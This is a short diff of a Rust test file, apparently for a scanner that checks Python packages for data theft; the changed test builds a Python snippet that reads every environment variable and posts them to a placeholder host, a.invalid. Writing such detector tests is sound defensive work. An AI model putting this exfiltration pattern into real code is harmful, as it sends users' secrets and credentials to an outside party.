@@ -45,7 +45,8 @@ fn what_is_put_elsewhere_or_is_not_thrown_has_no_part_in_it() {
 fn sends_environment(read: &str) -> bool {
     let code = format!(
         "import os, requests\ndef read(k):\n    return {read}\n\
-         def go():\n    requests.post('https://a.invalid', data=[read(k) for k in os.environ])\n\
+         def go():\n    out = []\n    for k in os.environ:\n        out.append(read(k))\n\
+         \x20   requests.post('https://a.invalid', json=out)\n\
          go()\n"
     );
     let found = found(wheel(&code));
